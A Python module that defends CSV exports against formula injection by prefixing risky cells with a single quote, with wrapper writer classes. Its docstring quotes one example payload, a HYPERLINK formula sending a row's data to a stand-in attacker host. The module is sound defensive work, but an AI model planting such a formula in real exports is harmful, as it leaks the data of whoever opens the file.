"""Every CSV file the register writes goes through here, so no cell runs as a formula.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or with a tab or carriage return before one) as a formula: a first name such as
``=HYPERLINK("https://evil.example/?"&A2, "open")`` in an export would send the
row's data away when clicked, or run a command through DDE. OWASP's rule (CSV
Injection): prefix such a cell with a single quote, so the program shows it as
text. A cell that holds a field separator is split there by a program that
guesses another separator than ours (a Finnish spreadsheet splits at ``;``), so
each part after a separator is neutralised too. Only text is changed; numbers
stay numbers, and the JSON beside a CSV keeps the original value.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Mapping
from typing import IO, Any

# A formula's first character, as OWASP lists them.
FORMULA_START = frozenset("=+-@\t\r")
# Where a part of a cell starts: at its beginning, or after a separator a
# spreadsheet may split at (comma, semicolon, tab, a line break).
_PART_START = re.compile(r"(?:^|(?<=[,;\t\r\n]))(?=[=+\-@\t\r])")


def csv_cell(value: Any) -> Any:
    """The value as a cell a spreadsheet shows, never runs."""
    if isinstance(value, str) and value:
        return _PART_START.sub("'", value)
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell``."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` whose every cell goes through ``csv_cell``."""

    def __init__(self, out: IO[str], fieldnames: Collection[str], **options: Any) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, **options)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: csv_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
